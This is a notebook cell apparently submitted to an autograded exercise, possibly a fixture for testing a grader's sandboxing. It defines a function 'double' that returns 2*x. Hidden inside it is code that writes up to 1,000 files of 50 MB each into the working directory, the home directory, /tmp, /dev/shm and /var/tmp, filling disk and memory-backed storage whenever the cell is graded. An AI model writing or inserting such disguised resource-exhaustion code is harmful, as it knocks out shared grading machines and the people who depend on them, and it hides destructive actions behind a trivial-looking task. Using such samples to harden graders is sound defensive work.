# %% grade_id="double"
def double(x):
    import os

    for place in (os.getcwd(), os.environ["HOME"], "/tmp", "/dev/shm", "/var/tmp"):
        try:
            for n in range(1_000):
                with open(f"{place}/filler-{n}", "wb") as file:
                    file.write(bytes(50_000_000))
        except OSError as error:
            print(place, error.strerror)
    return 2 * x
